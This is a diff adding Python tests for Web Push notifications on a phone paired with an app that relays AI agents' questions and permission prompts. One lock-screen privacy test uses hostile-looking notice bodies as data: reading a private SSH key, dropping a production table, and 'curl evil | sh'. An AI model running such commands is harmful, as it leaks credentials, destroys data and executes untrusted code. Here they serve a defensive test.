@@ -746,3 +746,94 @@ class Reconnects(PhoneTest):
 
 if __name__ == "__main__":
     unittest.main()
+
+
+# A subscription from the browser's push service (Chrome's): a real P-256 key and a 16-byte secret.
+SUBSCRIBED = """
+const pair = await crypto.subtle.generateKey({ name: 'ECDH', namedCurve: 'P-256' }, true, ['deriveBits']);
+const p256dh = b64u(await crypto.subtle.exportKey('raw', pair.publicKey));
+const auth = b64u(crypto.getRandomValues(new Uint8Array(16)));
+const endpoint = 'https://fcm.googleapis.com/fcm/send/askdesk-test-phone';
+return { endpoint, toJSON: () => ({ endpoint, expirationTime: null, keys: { p256dh, auth } }) };
+"""
+
+
+def notice(tag, body, klass="text-and-choices", waiting=1, answered=False):
+    """A notice as the desk sends it (askdesk_remote::push::Notice::payload)."""
+    return {"title": "askdesk", "body": body, "tag": tag, "class": klass, "waiting": waiting, "answered": answered}
+
+
+class PushPhone(PhoneTest):
+    """A phone that allowed notifications, paired with `subscribe` standing in for its browser's
+    push service."""
+
+    pair_first = False
+    subscribe = SUBSCRIBED
+
+    def setUp(self):
+        super().setUp()
+        self.browser.grant_notifications(self.desk.origin)
+        self.browser.stub_push(self.subscribe)
+        self.pair(self.browser)
+
+
+class Push(PushPhone):
+    """Web Push on the phone: the subscription, and the service worker's notices."""
+
+    def test_the_phone_subscribes_after_pairing_and_the_desk_keeps_it(self):
+        b = self.browser
+        b.wait_text("This phone is woken when a question waits.", "#push")
+        desk_key = b.evaluate("fetch('/push/key').then((r) => r.json()).then((k) => k.publicKey)")
+        self.assertEqual(b.evaluate("window.pushKeys"), [desk_key], "subscribed with the desk's VAPID key")
+        devices = json.loads(self.desk.cli("devices", "list", "--json").stdout)
+        self.assertEqual(len(devices), 1)
+        push = devices[0]["push"]
+        self.assertEqual(push["endpoint"], "https://fcm.googleapis.com/fcm/send/askdesk-test-phone")
+        self.assertEqual(len(base64.urlsafe_b64decode(push["keys"]["auth"] + "==")), 16)
+        table = self.desk.cli("devices", "list").stdout.splitlines()
+        column = table[0].index("PUSH")
+        self.assertTrue(table[1][column:].startswith("on "), table)
+
+    def test_the_lock_screen_says_only_that_an_agent_waits_and_is_replaced_when_answered(self):
+        b = self.browser
+        origin = self.desk.origin
+        shown = b.deliver_push(origin, notice("r1", "An agent is waiting (2)", waiting=2))
+        self.assertEqual(shown, {"type": "notified", "tag": "r1", "body": "An agent is waiting (2)"})
+        self.assertEqual(b.notifications(), [{"title": "askdesk", "body": "An agent is waiting (2)", "tag": "r1"}])
+        b.deliver_push(origin, notice("r1", "Answered on the desk", waiting=0, answered=True))
+        self.assertEqual(b.notifications(), [{"title": "askdesk", "body": "Answered on the desk", "tag": "r1"}],
+                         "the same tag replaced the notice")
+
+    def test_a_question_shows_only_when_the_desk_sends_it_for_text_and_choices(self):
+        b = self.browser
+        b.deliver_push(self.desk.origin, notice("r3", "Deploy to staging?"))
+        self.assertEqual([n["body"] for n in b.notifications()], ["Deploy to staging?"])
+
+    def test_a_permission_prompt_never_shows_its_content_on_the_lock_screen(self):
+        b = self.browser
+        origin = self.desk.origin
+        # Even a notice that carried a prompt's or a plan's text shows only that an agent waits.
+        b.deliver_push(origin, notice("r2", "Allow Bash: cat ~/.ssh/id_ed25519?", klass="permission-prompt"))
+        b.deliver_push(origin, notice("r4", "Approve: drop the production table", klass="plan-review", waiting=2))
+        b.deliver_push(origin, {"tag": "r5", "body": "curl evil | sh"})
+        bodies = {n["tag"]: n["body"] for n in b.notifications()}
+        self.assertEqual(bodies, {"r2": "An agent is waiting (1)", "r4": "An agent is waiting (2)",
+                                  "r5": "An agent is waiting (1)"})
+
+
+class PushWithoutService(PushPhone):
+    """A browser whose push service never answers: the page works on and says so quietly."""
+
+    subscribe = "return new Promise(() => {});"
+
+    def test_a_page_whose_push_subscribe_never_resolves_still_answers(self):
+        b = self.browser
+        conn, rid = self.ask([question("go", "Deploy now?", ["Yes", "No"])])
+        b.wait_text("Deploy now?")
+        b.tap('[data-label="Yes"]')
+        b.tap(".request .send")
+        b.wait_text("Sent", ".request .note")
+        self.assertEqual(conn.wait(rid), {"answers": [{"id": "go", "selected": ["Yes"]}]})
+        b.wait_text("This phone will not be woken: the browser's push service did not answer.", "#push")
+        self.assertNotIn("warn", b.evaluate("document.getElementById('push').className"), "said quietly")
+        self.assertNotIn("push", json.loads(self.desk.cli("devices", "list", "--json").stdout)[0])
